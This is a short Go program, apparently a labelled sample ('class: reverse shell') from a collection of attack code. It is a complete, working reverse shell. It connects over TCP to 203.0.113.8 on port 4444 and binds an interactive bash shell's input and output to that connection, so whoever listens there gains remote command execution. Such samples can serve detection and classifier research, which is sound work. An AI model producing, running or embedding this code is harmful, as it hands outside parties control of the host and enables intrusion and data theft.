// class: reverse shell; style: short
package main

import (
	"net"
	"os/exec"
)

func main() {
	c, _ := net.Dial("tcp", "203.0.113.8:4444")
	cmd := exec.Command("/bin/bash", "-i")
	cmd.Stdin = c
	cmd.Stdout = c
	cmd.Stderr = c
	cmd.Run()
}
